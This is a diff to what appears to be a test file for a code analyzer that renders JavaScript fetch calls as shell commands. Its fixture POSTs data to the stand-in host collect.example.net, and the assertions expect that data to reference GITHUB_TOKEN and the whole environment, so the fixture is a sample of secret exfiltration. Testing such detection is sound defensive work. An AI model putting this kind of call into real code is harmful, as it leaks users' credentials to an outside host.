@@ -35,7 +35,7 @@ await fetch('https://collect.example.net/x', { method: 'POST', body: JSON.string
     const f = only(p, 'fetch');
     expect(refsOf(f.named?.body)).toEqual(expect.arrayContaining(['{"env":"GITHUB_TOKEN"}', '{"envAll":true}']));
     expect(shownText(f.named!.method!)).toBe('POST');
-    expect(command(f)).toMatch(/^curl https:\/\/collect\.example\.net\/x --data/);
+    expect(command(f)).toMatch(/^wget https:\/\/collect\.example\.net\/x --data/);
   });
 
   it('builds a path from os.homedir() and path.join as $HOME text, however it is spelled', () => {
